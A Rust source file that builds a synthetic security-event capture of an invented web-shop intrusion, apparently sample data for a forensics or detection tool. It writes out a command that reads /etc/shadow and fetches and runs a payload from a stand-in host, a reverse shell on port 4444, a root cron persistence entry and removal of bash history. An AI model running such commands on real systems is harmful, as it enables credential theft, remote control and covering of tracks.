//! The sample incident that ships with the project: an upload script of a web shop is made to run
//! commands, and what follows from it.
//!
//! Everything in it is made up: addresses are from the ranges set aside for documentation, and times,
//! ids and inodes are constants, so that the file is the same on every machine.
//!
//! [`cast`] says who takes part and what is open at the start, [`story`] writes what they do.

mod cast;
mod story;

use std::io;

use capture::{Compression, Writer};
use event::snapshot::{Group, Interface, MachineInfo, User, UserList};
use event::{Record, RecordFlags, constants};

use cast::{Actor, Cast, open_at_start, write_process};
use story::Story;

/// 14 March 2026, 09:26:53 UTC.
const START: u64 = 1_773_480_413_000_000_000;
const BOOT: u64 = START - 86_400_000_000_000;
const CONTAINER: &str = "7c1d5e0a94b3f6208d7e61c2ab95f0343e8812d6c07f5b9a4410ed2839fb6ca5";
const SHOP: [u8; 4] = [172, 17, 0, 3];
const VISITOR: [u8; 4] = [203, 0, 113, 77];
const CUSTOMER: [u8; 4] = [192, 0, 2, 18];
const HIDEOUT: [u8; 4] = [198, 51, 100, 23];
/// Device 136, minor 0: the first pseudo terminal.
const TERMINAL: u32 = 34_816;
const ALL_CAPABILITIES: u64 = 0x1ff_ffff_ffff;
const DOCKER_CAPABILITIES: u64 = 0xa804_25fb;
const CURRENT_FOLDER: i64 = -100;

/// The whole capture, as the bytes of a file.
///
/// # Errors
/// When the writer fails, which it does not in memory.
pub fn capture_file() -> io::Result<Vec<u8>> {
    let mut writer = Writer::new(Vec::new(), Compression::Gzip)?;
    writer.machine(&MachineInfo {
        cpus: 4,
        memory: 8 << 30,
        max_pid: 4_194_304,
        hostname: b"shop-host-1".to_vec(),
        boot_time: BOOT,
        flags: 0,
    })?;
    let interface =
        |name: &str, address: [u8; 4], netmask: [u8; 4], broadcast: [u8; 4]| Interface {
            name: name.into(),
            address: address.into(),
            netmask: netmask.into(),
            broadcast: broadcast.into(),
            link_speed: None,
        };
    writer.interfaces(&[
        interface(
            "eth0",
            [198, 18, 0, 10],
            [255, 255, 255, 0],
            [198, 18, 0, 255],
        ),
        interface(
            "docker0",
            [172, 17, 0, 1],
            [255, 255, 0, 0],
            [172, 17, 255, 255],
        ),
    ])?;
    writer.users(&accounts())?;
    let cast = Cast::new();
    for actor in cast.at_start() {
        write_process(&mut writer, actor)?;
    }
    for descriptor in open_at_start(&cast) {
        writer.descriptor(&descriptor)?;
    }
    for (cpu, bytes) in tell(&cast) {
        let record = Record::parse(&bytes, cpu, RecordFlags::default())
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        writer.event(&record)?;
    }
    writer.finish()
}

fn accounts() -> UserList {
    let user = |uid, name: &str, home: &str, shell: &str| User {
        uid,
        gid: uid,
        name: name.into(),
        home: home.into(),
        shell: shell.into(),
    };
    let group = |gid, name: &str| Group {
        gid,
        name: name.into(),
    };
    UserList {
        users: vec![
            user(0, "root", "/root", "/bin/bash"),
            user(33, "www-data", "/var/www", "/usr/sbin/nologin"),
            user(1000, "mira", "/home/mira", "/bin/bash"),
        ],
        groups: vec![group(0, "root"), group(33, "www-data"), group(1000, "mira")],
    }
}

/// What happens, from an ordinary customer to the removed history, and to the administrator who comes to look.
fn tell(cast: &Cast) -> Vec<(u16, Vec<u8>)> {
    let mut story = Story::default();
    let s = &mut story;
    let (worker, pool) = (&cast.worker, &cast.pool);
    let create = constants::O_WRONLY | constants::O_CREAT | constants::O_TRUNC;

    // A customer looks at the shop.
    s.accept(worker, 11, (CUSTOMER, 50_122));
    s.read(worker, 11, b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    s.read_file(worker, 12, "/var/www/shop/index.html", 2_310);
    s.write(
        worker,
        11,
        b"HTTP/1.1 200 OK\r\nContent-Length: 2310\r\n\r\n",
    );
    s.write(worker, 1, b"192.0.2.18 GET / 200\n");
    s.close(worker, 11);

    // A visitor calls a script that he has uploaded before.
    s.pause(2_400);
    s.accept(worker, 11, (VISITOR, 51_544));
    s.read(
        worker,
        11,
        b"POST /media/invoice.php HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    );
    s.read_file(pool, 9, "/var/www/shop/media/invoice.php", 412);
    let fetch: &[&str] = &[
        "-c",
        "cat /etc/shadow; curl -so /tmp/.cache http://198.51.100.23/c; /tmp/.cache",
    ];
    let sh = pool.child(2207, "/bin/sh", fetch);
    s.run(pool, &sh);

    // It reads the passwords, fetches a program and starts it.
    let cat = sh.child(2208, "/bin/cat", &["/etc/shadow"]);
    s.run(&sh, &cat);
    s.open(&cat, 3, "/etc/shadow", constants::O_RDONLY);
    s.read(
        &cat,
        3,
        b"root:$y$j9T$........................:20470:0:99999:7:::\n",
    );
    s.close(&cat, 3);
    s.exit(&cat);
    let curl = sh.child(
        2209,
        "/usr/bin/curl",
        &["-so", "/tmp/.cache", "http://198.51.100.23/c"],
    );
    s.run(&sh, &curl);
    s.read_file(&curl, 3, "/etc/resolv.conf", 74);
    s.connect(&curl, 5, 39_406, (HIDEOUT, 80));
    s.write(&curl, 5, b"GET /c HTTP/1.1\r\nHost: 198.51.100.23\r\n\r\n");
    s.read(&curl, 5, &[0x7f; 1_448]);
    s.open(&curl, 6, "/tmp/.cache", create);
    s.write(&curl, 6, &[0x7f; 1_448]);
    s.close(&curl, 6);
    s.close(&curl, 5);
    s.exit(&curl);
    s.make_executable(&sh, "/tmp/.cache");
    let dropped = sh.child(2211, "/tmp/.cache", &[]);
    s.run(&sh, &dropped);

    // The program calls home and ties a shell to the connection.
    s.connect(&dropped, 3, 39_412, (HIDEOUT, 4_444));
    s.duplicate(&dropped, 3, 0);
    s.duplicate(&dropped, 3, 1);
    s.duplicate(&dropped, 3, 2);
    let shell = Actor {
        session: 2214,
        tty: TERMINAL,
        ..dropped.child(2214, "/bin/bash", &["-i"])
    };
    s.pause(800);
    s.run(&dropped, &shell);

    // Somebody types: stay, and leave no trace.
    s.pause(4_100);
    s.open(&shell, 4, "/etc/cron.d/refresh", create);
    s.write(&shell, 4, b"*/5 * * * * root /tmp/.cache\n");
    s.close(&shell, 4);
    s.pause(2_700);
    let rm = shell.child(2219, "/bin/rm", &["-f", "/root/.bash_history"]);
    s.run(&shell, &rm);
    s.remove(&rm, "/root/.bash_history");
    s.exit(&rm);
    s.pause(900);
    s.exit(&shell);
    s.exit(&dropped);
    s.exit(&sh);
    s.close(worker, 11);

    // Somebody who was called because of it looks around in the container.
    s.pause(94_000);
    let look = Actor {
        vpid: 61,
        session: 2301,
        tty: TERMINAL,
        inside: true,
        ..cast.shim.child(2301, "/bin/bash", &[])
    };
    s.run(&cast.shim, &look);
    let ls = look.child(2302, "/bin/ls", &["-la", "/tmp"]);
    s.run(&look, &ls);
    s.exit(&ls);
    s.pause(3_200);
    s.exit(&look);
    story.records
}
